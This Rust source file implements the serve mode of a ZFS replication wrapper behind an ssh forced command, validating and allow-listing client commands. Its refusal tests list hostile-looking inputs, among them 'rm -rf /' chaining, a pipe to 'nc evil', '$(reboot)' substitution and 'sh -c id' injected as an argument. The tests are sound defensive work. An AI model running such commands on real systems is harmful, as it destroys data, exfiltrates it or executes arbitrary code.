//! Serve mode (`zsend-wrap --serve --allow DATASET…`): the source side of
//! pull replication behind an ssh forced command.
//!
//! sshd runs `zsend-wrap --serve …` for every connection of the key and puts
//! what the client asked for in `SSH_ORIGINAL_COMMAND`. We split that string
//! into words without a shell ([`shlex`]), bound its length, and match it
//! against the few command shapes `zrecv-wrap --from` sends ([`Request`]):
//!
//! | shape | needs |
//! |---|---|
//! | `zfs get -Hp -o name,property,value -d 1 guid,createtxg,creation,userrefs DS` | – |
//! | `zfs send -nvP [-i\|-I SNAP] SNAP`, `zfs send -nvP -t TOKEN` | – |
//! | `zfs send [-i\|-I SNAP] SNAP`, `zfs send -t TOKEN` | – |
//! | `zsend-wrap [--quiet] [--compress V] [-w] [-c] [-L] [-e] [-p] [-i\|-I SNAP] SNAP`, or `… -t TOKEN` | – |
//! | `zfs snapshot DS@NAME` | `--allow-snapshot` |
//! | `zfs destroy DS@SNAP` (one snapshot, no flags, no ranges) | `--allow-prune` |
//!
//! Every dataset and snapshot named (and a token's `toname`) must be an
//! `--allow`ed dataset or one of its children. `zfs` here always means the
//! server's own zfs (`--zfs`/`ZPIPE_ZFS`), never a program the client
//! names; `zsend-wrap` runs in this process. Anything else is refused with
//! one line on stderr (`zsend-wrap: serve: refused …`) and exit 1.

use crate::send::Args;
use crate::zfs::Zfs;
use zpipe_core::child::{Child, Io};
use zpipe_core::{exit, Exit};

/// The variable sshd sets to the command the client asked for.
pub const ORIGINAL_COMMAND_ENV: &str = "SSH_ORIGINAL_COMMAND";
/// Longest command accepted, in bytes (resume tokens are a few hundred).
pub const MAX_COMMAND_LEN: usize = 4096;
/// How much of a refused command is quoted in the log line.
pub const LOGGED_COMMAND_LEN: usize = 160;
/// The zfs command word the client uses (mapped to the server's zfs).
pub const ZFS_WORD: &str = "zfs";
/// The zsend-wrap command word (any path ending in it is accepted; it runs
/// in this process whatever the path).
pub const ZSEND_WORD: &str = "zsend-wrap";

/// The snapshot listing both sides of a pull run (and serve mode allows).
pub use crate::zfs::{list_args, SNAPSHOT_PROPS};

/// What the source of a send is: a snapshot (with an optional incremental
/// base) or a resume token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SendWhat {
    /// `[-i|-I FROM] SNAP`: the flag (`-i`/`-I`), its snapshot, the target.
    Snap {
        /// `-i` or `-I` with its snapshot, for incrementals.
        from: Option<(String, String)>,
        /// The snapshot to send.
        snap: String,
    },
    /// `-t TOKEN`.
    Token(String),
}

/// One allowed request, parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Request {
    /// List a dataset's snapshots with [`SNAPSHOT_PROPS`].
    List(String),
    /// `zfs send -nvP …`: size estimate.
    Estimate(SendWhat),
    /// `zfs send …`: a bare stream.
    ZfsSend(SendWhat),
    /// `zsend-wrap FLAGS …`: a verified stream from this process; the
    /// vector is the validated zsend-wrap argv (without the program).
    Zsend(Vec<String>, SendWhat),
    /// `zfs snapshot DS@NAME`.
    Snapshot(String),
    /// `zfs destroy DS@SNAP`.
    Destroy(String),
}

/// What the server permits (from the `--serve` flags).
#[derive(Debug, Clone, Default)]
pub struct Policy {
    /// Datasets the client may use, with their children.
    pub allow: Vec<String>,
    /// `zfs snapshot` is allowed.
    pub allow_snapshot: bool,
    /// `zfs destroy DS@SNAP` is allowed.
    pub allow_prune: bool,
}

impl Policy {
    /// True when `name` (a dataset, `ds@snap` or `ds#bookmark`) lies in an
    /// allowed dataset or below it.
    pub fn allows(&self, name: &str) -> bool {
        let ds = name.split(['@', '#']).next().unwrap_or(name);
        self.allow.iter().any(|a| {
            ds == a
                || ds
                    .strip_prefix(a.as_str())
                    .is_some_and(|r| r.starts_with('/'))
        })
    }
}

/// Characters refused anywhere in a command word: shell syntax and control
/// characters (no ZFS name, flag or token contains them).
fn bad_char(c: char) -> bool {
    c.is_control() || ";|&$`<>(){}[]*?!~#\\'\"^".contains(c)
}

/// Parses and checks `line` against `policy`; `Err` is the refusal reason.
pub fn parse_request(line: &str, policy: &Policy) -> Result<Request, String> {
    if line.len() > MAX_COMMAND_LEN {
        return Err(format!(
            "command is {} bytes, longer than {MAX_COMMAND_LEN}",
            line.len()
        ));
    }
    if let Some(c) = line.chars().find(|&c| c.is_control() && c != '\t') {
        return Err(format!("control character {c:?} in the command"));
    }
    // Word splitting drops a `#` comment with everything after it, so a
    // `#` must be refused before the split, not only in the words.
    if line.contains('#') {
        return Err("'#' in the command".into());
    }
    let words = shlex::split(line).ok_or("cannot split the command into words")?;
    if let Some(w) = words.iter().find(|w| w.chars().any(bad_char)) {
        return Err(format!("shell metacharacter in {w:?}"));
    }
    let (first, rest) = words.split_first().ok_or("empty command")?;
    let program = first.rsplit('/').next().unwrap_or(first);
    match (first.as_str(), program) {
        (ZFS_WORD, _) => parse_zfs(rest, policy),
        (_, ZSEND_WORD) => parse_zsend(rest, policy),
        _ => Err(format!(
            "'{first}' is not a command this key may run (only {ZFS_WORD} and {ZSEND_WORD})"
        )),
    }
}

fn check_name(name: &str, policy: &Policy, what: &str) -> Result<(), String> {
    if name.starts_with('-') {
        return Err(format!("{what} '{name}' looks like an option"));
    }
    if name.is_empty() || !policy.allows(name) {
        return Err(format!(
            "{what} '{name}' is not in an allowed dataset ({})",
            policy.allow.join(", ")
        ));
    }
    Ok(())
}

fn check_snapshot(name: &str, policy: &Policy) -> Result<(), String> {
    check_name(name, policy, "snapshot")?;
    match name.split_once('@') {
        Some((_, s)) if !s.is_empty() && !s.contains(['@', '%', ',', '/']) => Ok(()),
        _ => Err(format!("'{name}' is not a single snapshot DATASET@NAME")),
    }
}

/// Checks a send's source: names allowed, token decodable and allowed.
fn check_what(what: &SendWhat, policy: &Policy) -> Result<(), String> {
    match what {
        SendWhat::Snap { from, snap } => {
            check_snapshot(snap, policy)?;
            if let Some((_, f)) = from {
                // `-i @snap` is relative to the target's dataset.
                if !f.starts_with('@') {
                    check_name(f, policy, "incremental source")?;
                }
            }
            Ok(())
        }
        SendWhat::Token(t) => {
            let token = crate::token::decode(t).map_err(|e| format!("bad resume token: {e:#}"))?;
            check_name(&token.toname, policy, "the token's snapshot")
        }
    }
}

/// Parses `[-i|-I FROM] SNAP` / `-t TOKEN` words after the allowed flags
/// were taken out by `flag`, which returns true for a word it accepted.
fn parse_send_words(
    words: &[String],
    mut flag: impl FnMut(&str, &mut std::slice::Iter<'_, String>) -> Result<bool, String>,
) -> Result<SendWhat, String> {
    let mut from: Option<(String, String)> = None;
    let mut token: Option<String> = None;
    let mut snap: Option<String> = None;
    let mut it = words.iter();
    while let Some(w) = it.next() {
        if flag(w, &mut it)? {
            continue;
        }
        match w.as_str() {
            "-i" | "-I" | "-t" => {
                let v = it
                    .next()
                    .ok_or_else(|| format!("{w} needs a value"))?
                    .clone();
                if v.starts_with('-') {
                    return Err(format!("{w} value '{v}' looks like an option"));
                }
                if w == "-t" {
                    if token.replace(v).is_some() {
                        return Err("-t given twice".into());
                    }
                } else if from.replace((w.clone(), v)).is_some() {
                    return Err("more than one -i/-I".into());
                }
            }
            s if s.starts_with('-') => {
                return Err(format!("option '{s}' is not allowed in serve mode"))
            }
            s => {
                if snap.replace(s.to_string()).is_some() {
                    return Err("more than one snapshot".into());
                }
            }
        }
    }
    match (token, from, snap) {
        (Some(t), None, None) => Ok(SendWhat::Token(t)),
        (None, from, Some(snap)) => Ok(SendWhat::Snap { from, snap }),
        (Some(_), _, _) => Err("-t takes no snapshot and no -i/-I".into()),
        (None, _, None) => Err("no snapshot to send".into()),
    }
}

fn parse_zfs(words: &[String], policy: &Policy) -> Result<Request, String> {
    let verb = words.first().map(String::as_str).unwrap_or("");
    let args = words.get(1..).unwrap_or(&[]);
    match verb {
        "get" => {
            let ds = args.last().ok_or("zfs get without a dataset")?;
            if list_args(ds)[1..] != *args {
                return Err(format!(
                    "only 'zfs get -Hp -o name,property,value -d 1 {SNAPSHOT_PROPS} DATASET' is allowed"
                ));
            }
            check_name(ds, policy, "dataset")?;
            Ok(Request::List(ds.clone()))
        }
        "send" => {
            let estimate = args.first().is_some_and(|a| a == "-nvP");
            let rest = if estimate { &args[1..] } else { args };
            let what = parse_send_words(rest, |_, _| Ok(false))?;
            check_what(&what, policy)?;
            Ok(if estimate {
                Request::Estimate(what)
            } else {
                Request::ZfsSend(what)
            })
        }
        "snapshot" => {
            if !policy.allow_snapshot {
                return Err("zfs snapshot needs --allow-snapshot on the server".into());
            }
            let [name] = args else {
                return Err("zfs snapshot takes exactly one DATASET@NAME".into());
            };
            check_snapshot(name, policy)?;
            Ok(Request::Snapshot(name.clone()))
        }
        "destroy" => {
            if !policy.allow_prune {
                return Err("zfs destroy needs --allow-prune on the server".into());
            }
            let [name] = args else {
                return Err("zfs destroy takes exactly one DATASET@SNAP, no options".into());
            };
            check_snapshot(name, policy)?;
            Ok(Request::Destroy(name.clone()))
        }
        other => Err(format!("'zfs {other}' is not allowed")),
    }
}

/// Flags of zsend-wrap that serve mode passes on (no value).
const ZSEND_SWITCHES: [&str; 11] = [
    "--quiet",
    "-w",
    "--raw",
    "-c",
    "--compressed",
    "-L",
    "--large-block",
    "-e",
    "--embed",
    "-p",
    "--props",
];

fn compress_value_ok(v: &str) -> bool {
    matches!(v, "auto" | "off" | "none" | "0")
        || v.parse::<u8>().is_ok_and(|l| (1..=19).contains(&l))
}

fn parse_zsend(words: &[String], policy: &Policy) -> Result<Request, String> {
    let mut flags: Vec<String> = Vec::new();
    let what = parse_send_words(words, |w, it| {
        if ZSEND_SWITCHES.contains(&w) {
            flags.push(w.to_string());
            return Ok(true);
        }
        let value = if w == "--compress" {
            Some(it.next().ok_or("--compress needs a value")?.clone())
        } else {
            w.strip_prefix("--compress=").map(str::to_string)
        };
        match value {
            Some(v) if compress_value_ok(&v) => {
                flags.push(format!("--compress={v}"));
                Ok(true)
            }
            Some(v) => Err(format!("--compress value '{v}' is not auto, off or 1-19")),
            None => Ok(false),
        }
    })?;
    check_what(&what, policy)?;
    let mut argv = flags;
    argv.extend(send_what_args(&what));
    Ok(Request::Zsend(argv, what))
}

/// The `[-i|-I FROM] SNAP` / `-t TOKEN` words of a send.
pub fn send_what_args(what: &SendWhat) -> Vec<String> {
    match what {
        SendWhat::Snap { from, snap } => {
            let mut v = Vec::new();
            if let Some((f, s)) = from {
                v.push(f.clone());
                v.push(s.clone());
            }
            v.push(snap.clone());
            v
        }
        SendWhat::Token(t) => vec!["-t".into(), t.clone()],
    }
}

/// A one-line, bounded rendering of a client's command for the log.
fn logged(line: &str) -> String {
    let mut s: String = line.chars().take(LOGGED_COMMAND_LEN).collect();
    if s.len() < line.len() {
        s.push('…');
    }
    format!("{s:?}")
}

/// Runs serve mode: reads `SSH_ORIGINAL_COMMAND`, checks it, runs it.
pub fn serve(args: &Args) -> anyhow::Result<Exit> {
    let policy = Policy {
        allow: args
            .allow
            .iter()
            .map(|a| a.trim_end_matches('/').to_string())
            .collect(),
        allow_snapshot: args.allow_snapshot,
        allow_prune: args.allow_prune,
    };
    if policy.allow.iter().any(|a| a.is_empty() || a.contains('@')) {
        return Err(exit::usage("--allow takes dataset names (pool/fs)"));
    }
    let line = match std::env::var_os(ORIGINAL_COMMAND_ENV) {
        Some(v) => v
            .into_string()
            .map_err(|_| exit::usage("serve: refused: the command is not UTF-8"))?,
        None => {
            return Err(exit::usage(format!(
                "serve: refused: no command ({ORIGINAL_COMMAND_ENV} is not set); this key is for \
                 zrecv-wrap --from"
            )))
        }
    };
    let request = parse_request(&line, &policy)
        .map_err(|why| exit::usage(format!("serve: refused: {why}: {}", logged(&line))))?;
    let zfs = Zfs::from_option(args.zfs.as_deref())?;
    execute(&request, &zfs, args)
}

/// Runs `zfs <words>` with our stdout; stderr is kept for the error line
/// (and also forwarded when `forward`).
fn run_zfs(zfs: &Zfs, words: Vec<String>, forward: bool) -> anyhow::Result<Exit> {
    let mut child = Child::spawn(&zfs.argv(words), Io::Null, Io::Inherit, forward)?;
    child.check()?;
    Ok(Exit::Success)
}

fn execute(request: &Request, zfs: &Zfs, args: &Args) -> anyhow::Result<Exit> {
    match request {
        Request::List(ds) => run_zfs(zfs, list_args(ds), false),
        Request::Estimate(what) => {
            let mut w = vec!["send".to_string(), "-nvP".to_string()];
            w.extend(send_what_args(what));
            run_zfs(zfs, w, true)
        }
        Request::ZfsSend(what) => {
            if let SendWhat::Token(t) = what {
                crate::send::check_token(zfs, t)?;
            }
            let mut w = vec!["send".to_string()];
            w.extend(send_what_args(what));
            run_zfs(zfs, w, false)
        }
        Request::Snapshot(name) => run_zfs(zfs, vec!["snapshot".into(), name.clone()], false),
        Request::Destroy(name) => run_zfs(zfs, vec!["destroy".into(), name.clone()], false),
        Request::Zsend(argv, _) => {
            let mut full = vec![ZSEND_WORD.to_string()];
            if let Some(z) = &args.zfs {
                full.push(format!("--zfs={z}"));
            }
            full.extend(argv.iter().cloned());
            let matches = crate::send::command()
                .try_get_matches_from(&full)
                .map_err(|e| exit::usage(zpipe_core::cli::clap_error_line(&e)))?;
            crate::send::run(matches)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> Policy {
        Policy {
            allow: vec!["tank/home".into(), "tank/my ds".into()],
            allow_snapshot: true,
            allow_prune: false,
        }
    }

    #[test]
    fn allowed_shapes() {
        let p = policy();
        let list = format!("zfs get -Hp -o name,property,value -d 1 {SNAPSHOT_PROPS} tank/home");
        assert_eq!(
            parse_request(&list, &p),
            Ok(Request::List("tank/home".into()))
        );
        assert_eq!(
            parse_request("zfs snapshot 'tank/my ds/x@zpipe-20260101-0000'", &p),
            Ok(Request::Snapshot("tank/my ds/x@zpipe-20260101-0000".into()))
        );
        let r = parse_request(
            "/usr/local/bin/zsend-wrap --quiet --compress 3 -I tank/home@a tank/home@b",
            &p,
        )
        .unwrap();
        let Request::Zsend(argv, _) = r else { panic!() };
        assert_eq!(
            argv,
            [
                "--quiet",
                "--compress=3",
                "-I",
                "tank/home@a",
                "tank/home@b"
            ]
        );
        assert!(matches!(
            parse_request("zfs send -nvP -i @a tank/home/sub@b", &p),
            Ok(Request::Estimate(_))
        ));
        assert!(matches!(
            parse_request("zfs send tank/home@b", &p),
            Ok(Request::ZfsSend(_))
        ));
    }

    #[test]
    fn refusals() {
        let p = policy();
        let refused = [
            "zfs get -Hp -o name,property,value -d 1 guid,createtxg,creation,userrefs tank/other",
            "zfs get all tank/home",
            "zfs destroy tank/home@a",
            "zfs destroy -r tank/home",
            "sh -c 'zfs list'",
            "zfs send tank/home@a; rm -rf /",
            "zfs send tank/home@a | nc evil 1",
            "zfs send 'tank/home@$(reboot)'",
            "zfs send tank/homeother@a",
            "zfs send tank/other@a",
            "zsend-wrap --to evil:x tank/home@a",
            "zsend-wrap --zfs 'sh -c id' tank/home@a",
            "zsend-wrap -o ProxyCommand=x tank/home@a",
            "zsend-wrap -R tank/home@a",
            "zsend-wrap --compress 99 tank/home@a",
            "zsend-wrap -i -o tank/home@a",
            "zsend-wrap -t nonsense",
            "zfs send -t tank/home@a tank/home@a",
            "zfs rename tank/home@a tank/home@b",
            "zfs snapshot tank/home@a@b",
            "zfs snapshot tank/home",
            "",
            "zfs get 'unterminated",
        ];
        for cmd in refused {
            assert!(parse_request(cmd, &p).is_err(), "{cmd}");
        }
        let long = format!("zfs send tank/home@{}", "a".repeat(MAX_COMMAND_LEN));
        assert!(parse_request(&long, &p).unwrap_err().contains("longer"));
        assert!(parse_request("zfs send tank/home@a\nid", &p).is_err());
        // shlex would drop the comment and run the rest.
        assert!(parse_request("zfs send tank/home@a #; id", &p)
            .unwrap_err()
            .contains('#'));
        let no_snap = Policy {
            allow_snapshot: false,
            ..policy()
        };
        assert!(parse_request("zfs snapshot tank/home@a", &no_snap)
            .unwrap_err()
            .contains("--allow-snapshot"));
        let prune = Policy {
            allow_prune: true,
            ..policy()
        };
        assert!(parse_request("zfs destroy tank/home@a", &prune).is_ok());
        assert!(parse_request("zfs destroy tank/home@a%b", &prune).is_err());
        assert!(parse_request("zfs destroy tank/home@a,b", &prune).is_err());
    }

    #[test]
    fn allow_matches_children_only() {
        let p = policy();
        assert!(p.allows("tank/home"));
        assert!(p.allows("tank/home/a@s"));
        assert!(!p.allows("tank/homework"));
        assert!(!p.allows("tank"));
    }
}
